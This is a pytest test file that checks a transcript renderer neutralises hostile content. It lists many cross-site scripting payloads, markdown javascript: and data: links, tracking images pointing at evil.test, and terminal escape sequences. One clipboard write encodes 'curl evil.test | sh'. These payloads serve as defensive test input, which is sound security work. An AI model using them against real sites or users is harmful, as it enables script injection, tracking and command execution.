"""Hostile transcript content renders inert (spec X-1) and stays readable (X-2).

Every payload goes through every function that turns transcript text into HTML; an HTML parser
then audits the output: only the tags and attributes turnfold emits, no event handlers, no
script URLs, nothing that loads a remote resource, no style but the checked ANSI colours, no
control or bidi characters.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from turnfold.model import (
    CompactionBoundary,
    ImageData,
    ResultKind,
    Thinking,
    ToolResult,
    Transcript,
)
from turnfold.recording import Recorder
from turnfold.render import content
from turnfold.render.content import (
    MAX_MARKDOWN_CHARS,
    PROSE_CHARS,
    ansi_html,
    capped_prose,
    diff_html,
    escape,
    image_html,
    markdown_html,
    plain_text,
    result_view,
    sanitize,
    text_preview,
    thinking_html,
)
from turnfold.widget import TranscriptWidget

KINDS: list[ResultKind] = [
    "text", "ansi", "markdown", "json", "diff", "plan", "todo", "subagent",
]  # fmt: skip

#: Raw HTML an attacker might put in model text or tool output.
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<iframe src="http://evil.test/"></iframe>',
    "<form action=http://evil.test/><input name=x><button>go</button></form>",
    "<style>body{background:url(http://evil.test/)}</style>",
    '<div style="background:url(http://evil.test/)">styled</div>',
    '<object data="http://evil.test/x.swf"></object>',
    '<embed src="http://evil.test/x.swf">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/">',
    "<link rel=stylesheet href=http://evil.test/x.css>",
    '<img src="http://evil.test/track.png">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<details open ontoggle="alert(1)">',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="vbscript:msgbox(1)">vb</a>',
]
#: Markdown constructs that produce links and images.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.test/)",
    "[x](/files/secret)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![img][ref]\n\n[ref]: http://evil.test/track.png",
    "![tracker](http://evil.test/track.png)",
    '![tracker](https://evil.test/track.png "title")',
    "![tracker](//evil.test/track.png)",
    '[x](http://ok.test "onmouseover=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script> | b |\n|---|---|\n| [x](javascript:alert(1)) | 2 |",
    "- [x] <img src=x onerror=alert(1)>",
    "\x02wzxhzdk:0\x03",  # Python-Markdown's raw-HTML placeholder
]
#: Terminal sequences and invisible characters.
TERMINAL = [
    "\x1b]8;;javascript:alert(1)\x1b\\click me\x1b]8;;\x1b\\",
    "\x1b]8;;javascript:alert(1)\x07click me\x1b]8;;\x07",
    "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07",
    "\x1b]0;window title\x07after",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b[38;2;255;0;0;48;5;300mcolour\x1b[0m",
    "\x1bP+q\x1b\\dcs",
    "\x9b31mC1 CSI",
    "access granted \u202e\u2066evil\u2069\u202c",
    "bell\x07 nul\x00 backspace\x08 del\x7f",
    "zero\u200bwidth",
]
PAYLOADS = RAW_HTML + MARKDOWN + TERMINAL

ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "img", "li", "ol", "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead",
    "tr", "ul",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"class", "href", "src", "alt", "title", "target", "rel", "align", "start",
                      "style"}  # fmt: skip
SAFE_HREF = re.compile(r"(?:https?|mailto):", re.IGNORECASE)
SAFE_SRC = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}")
ANSI_STYLE = re.compile(
    r"(?:color:#[0-9a-f]{6}|background-color:#[0-9a-f]{6}"
    r"|color:#[0-9a-f]{6};background-color:#[0-9a-f]{6})"
)
SCRIPT_URL = re.compile(r"\s*(?:java|vb)script:|\s*data:text", re.IGNORECASE)
FORBIDDEN_CHARACTERS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)


class Audit(HTMLParser):
    """Collects every reason a fragment is unsafe, and its visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name not in ALLOWED_ATTRIBUTES or name.startswith("on"):
                self.problems.append(f"attribute {name}= on <{tag}>")
            if name == "href" and not SAFE_HREF.match(value):
                self.problems.append(f"href {value!r}")
            if name == "src" and (tag != "img" or not SAFE_SRC.fullmatch(value)):
                self.problems.append(f"src {value!r} on <{tag}>")
            if name == "style" and (tag != "span" or not ANSI_STYLE.fullmatch(value)):
                self.problems.append(f"style {value!r} on <{tag}>")
            if name in ("href", "src") and re.match(
                r"\s*(?:java|vb)script:|\s*data:text", value, re.I
            ):
                self.problems.append(f"script URL {value!r}")
            if tag == "a" and name == "target" and value != "_blank":
                self.problems.append(f"target {value!r}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.problems.append("link without rel")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("unknown declaration")


def audit(fragment: str) -> str:
    """Fail unless ``fragment`` is inert; return its visible text."""
    assert isinstance(fragment, str)
    assert not re.search(r"<\s*/?\s*script", fragment, re.IGNORECASE), fragment
    assert not FORBIDDEN_CHARACTERS.search(fragment), fragment
    parser = Audit()
    parser.feed(fragment)
    parser.close()
    assert parser.problems == [], (parser.problems, fragment)
    return "".join(parser.text)


def every_rendering(text: str) -> list[str]:
    """``text`` through every function that makes HTML from transcript content."""
    out = [markdown_html(text), ansi_html(text), diff_html(text), escape(text)]
    out.append(escape(text_preview(text, 40)))
    for kind in KINDS:
        view = result_view(ToolResult(text=text, kind=kind), max_lines=3, max_chars=200)
        assert view is not None
        out += [view["html"], view.get("more_html", ""), escape(view["text"]), *view["images"]]
    out.append(thinking_html(Thinking(text=text), "en"))
    out.append(thinking_html(Thinking(text=text, form="summary"), "zh"))
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_X1_hostile_payload_renders_inert_everywhere(payload: str) -> None:
    for fragment in every_rendering(payload):
        audit(fragment)


@pytest.mark.parametrize("payload", RAW_HTML)
def test_X1_raw_html_stays_visible_as_text(payload: str) -> None:
    # the reader sees what the transcript said, as text; nothing is silently removed.
    assert audit(markdown_html(payload)).strip() == payload
    assert audit(escape(payload)) == payload
    view = result_view(ToolResult(text=payload), max_chars=10_000)
    assert view is not None
    assert audit(view["html"]) == payload


@pytest.mark.parametrize("payload", RAW_HTML)
def test_X1_sanitizer_alone_stops_raw_html(payload: str) -> None:
    # Markdown escapes raw HTML before the sanitizer sees it; the sanitizer must hold on its own.
    audit(sanitize(payload))


def test_X1_link_text_survives_when_the_url_is_dropped() -> None:
    for payload in ("[click here](javascript:alert(1))", "[click here](data:text/html,x)"):
        out = markdown_html(payload)
        assert "href" not in out
        assert audit(out) == "click here"


def test_X1_a_huge_markdown_text_is_shown_whole_as_plain_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A 200 MB answer took Python-Markdown minutes and 4 GB of the kernel; past the bound the
    # text is shown as it is, escaped and whole, in linear time.
    assert MAX_MARKDOWN_CHARS <= 1 << 20
    monkeypatch.setattr(content, "MAX_MARKDOWN_CHARS", 1000)
    words = "**bold** <img src=x onerror=alert(1)> <b>javascript:alert(1)</b>\n"
    text = words * (1000 // len(words) + 1)
    out = markdown_html(text)
    assert "<strong>" not in out
    assert audit(out) == text
    assert "<strong>" in markdown_html(words * (1000 // len(words) - 1))


def test_X1_remote_images_do_not_load() -> None:
    for payload in ("![t](http://evil.test/t.png)", "![t][r]\n\n[r]: https://evil.test/t.png"):
        out = markdown_html(payload)
        assert "<img" not in out
        assert "🖼 t" in audit(out)


def test_X1_terminal_links_and_clipboard_writes_do_nothing() -> None:
    out = ansi_html("\x1b]8;;javascript:alert(1)\x07click me\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x07")
    assert "javascript" not in out
    assert "ZXZpbA" not in out
    assert audit(out) == "click me"


def test_X1_bidi_overrides_are_shown_not_obeyed() -> None:
    payload = "access granted \u202e\u2066evil\u2069\u202c"
    expected = "access granted ⟨U+202E⟩⟨U+2066⟩evil⟨U+2069⟩⟨U+202C⟩"
    assert audit(escape(payload)) == expected
    assert audit(markdown_html(payload)) == expected
    assert audit(ansi_html(payload)) == expected
    assert text_preview(payload, 100) == expected


def test_X1_text_preview_is_plain_single_line_text() -> None:
    for payload in PAYLOADS:
        preview = text_preview(payload, 60)
        assert "\n" not in preview
        assert "\x1b" not in preview
        assert not FORBIDDEN_CHARACTERS.search(preview)
        assert len(preview) <= 60


@pytest.mark.parametrize(
    ("image", "note"),
    [
        (ImageData(media_type="image/svg+xml", data="PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"), "unsupported"),
        # A displayable type whose data is no base64 says so (issue 21.14).
        (ImageData(media_type="image/png", data='x" onerror="alert(1)'), "unreadable"),
        (ImageData(media_type='image/png" onerror="alert(1)', data="AAAA"), "unsupported"),
        (ImageData(media_type="image/png", data="http://evil.test/track.png"), "unreadable"),
        (ImageData(media_type="text/html", data="PHNjcmlwdD4="), "unsupported"),
    ],
)  # fmt: skip
def test_X1_hostile_images_are_refused(image: ImageData, note: str) -> None:
    assert image_html(image) is None
    view = result_view(ToolResult(text="", images=[image]))
    assert view is not None
    assert view["images"] == []
    assert [n["key"] for n in view["notes"]] == [f"tool.image_{note}"]
    assert not FORBIDDEN_CHARACTERS.search(view["notes"][0]["params"]["media_type"])


def test_X1_image_alt_text_is_escaped() -> None:
    out = image_html(ImageData(media_type="image/gif", data="R0lGODlh"), alt='"><script>x')
    assert out is not None
    audit(out)


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>x</script>",
        '<img src="http://evil.test/t.png">',
        '<a href="javascript:x" rel="noopener noreferrer nofollow">x</a>',
        '<a href="https://ok.test">no rel</a>',
        '<span onclick="x">x</span>',
        '<span style="background:url(http://evil.test/)">x</span>',
        '<p style="color:#ff0000">x</p>',
        "<iframe></iframe>",
        "<!-- x -->",
        "a\u202eb",
    ],
)
def test_X1_the_audit_itself_catches_unsafe_html(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        audit(unsafe)


# --- properties -----------------------------------------------------------------------------------

HOSTILE_ALPHABET = st.sampled_from(
    [*"<>&\"'=/\\`[]()!:;#*_-~|{}\n\t\r \x1b\x07\x00\x9b\u202e\u2066",
     "javascript:", "JaVaScRiPt:", "&#106;", "&#x09;", "data:", "script", "onerror", "svg",
     "style", "href", "src", "img", "http://", "\x1b[", "\x1b]8;;", "m", "31", "38;5;"]
)  # fmt: skip
TEXT = st.one_of(st.text(max_size=300), st.lists(HOSTILE_ALPHABET, max_size=60).map("".join))


@given(TEXT)
@settings(deadline=None, max_examples=300)
def test_X1_arbitrary_text_never_yields_script_or_handlers(text: str) -> None:
    for fragment in every_rendering(text):
        audit(fragment)


@given(TEXT, st.sampled_from(KINDS), st.integers(1, 15), st.integers(1, 500))
@settings(deadline=None, max_examples=200)
def test_X1_result_view_never_raises(
    text: str, kind: ResultKind, max_lines: int, max_chars: int
) -> None:
    view = result_view(ToolResult(text=text, kind=kind), max_lines=max_lines, max_chars=max_chars)
    assert view is not None
    audit(view["html"])
    audit(view.get("more_html", ""))


@given(st.text(max_size=100), st.text(max_size=200))
@settings(deadline=None)
def test_X1_arbitrary_image_data_is_inert_or_refused(media_type: str, data: str) -> None:
    out = image_html(ImageData(media_type=media_type, data=data))
    if out is not None:
        audit(out)


# --- A huge message (X-1, X-2) ------------------------------------------------------------------


def _huge_session(text: str) -> Transcript:
    """A transcript whose every message (prompt, reasoning, progress note, notice, compaction
    summary, answer) is ``text``."""
    rec = Recorder()
    rec.user(text)
    rec.thinking(text)
    rec.assistant(text)
    rec.finish_tool(rec.start_tool("Bash", {"command": "ls"}), "ok")
    rec.assistant(text)
    rec.notice(text)
    rec.transcript.append(CompactionBoundary(summary=text))
    rec.user("and then?")
    rec.assistant(text)
    return rec.transcript


def test_X1_a_huge_message_is_cut_in_the_view_and_its_static_outputs_saying_so() -> None:
    # A 200 MB answer was copied whole into the view, its text/plain and its text/html: a
    # notebook that saved three copies, gigabytes of the kernel. Each message now shows its
    # first PROSE_CHARS, says how much it left out, and the widget fetches the whole on request.
    line = "<b>word</b> javascript:alert(1) " * 3 + "\n"
    text = line * (3 * PROSE_CHARS // len(line)) + "the end\n"
    widget = TranscriptWidget(_huge_session(text))
    data, _ = widget._repr_mimebundle_()
    for static in (data["text/plain"], data["text/html"]):
        # seven messages cut to PROSE_CHARS each (escaped, at most twice as long), where the
        # whole would be 7 × 3 × PROSE_CHARS
        assert len(static) < 7 * 2 * PROSE_CHARS
        assert "the end" not in static
    left_out = f"{capped_prose(text)[1]:,} more characters not included here"
    # text/plain: the notice and both answers (the rest is inside folds, which it does not open)
    assert data["text/plain"].count(left_out) == 3
    # text/html: and the prompt's rest, the reasoning, the progress note, the compaction summary
    assert data["text/html"].count(left_out) == 7
    answers = [node["answer"] for node in widget.view["nodes"] if node["kind"] == "turn"]
    assert len(answers) == 2
    for answer in answers:
        assert answer is not None
        assert answer["all_label"] == f"Show the whole text ({len(text):,} characters)"
        assert "".join(widget.output_parts(answer["key"])) == plain_text(text)  # never lost
    prompt = widget.view["nodes"][0]
    assert prompt["kind"] == "user"
    assert "".join(widget.output_parts(prompt["key"])) == plain_text(text)
    assert audit(answers[0]["html"]).count("<b>word</b>") > 1000  # still escaped text


def test_X1_a_message_within_the_bound_shows_whole_with_no_note() -> None:
    text = "word " * (PROSE_CHARS // 5 - 1)
    widget = TranscriptWidget(_huge_session(text))
    answer = widget.view["nodes"][1]["answer"]
    assert answer is not None
    assert "all_label" not in answer
    assert "not included" not in widget._repr_mimebundle_()[0]["text/html"]
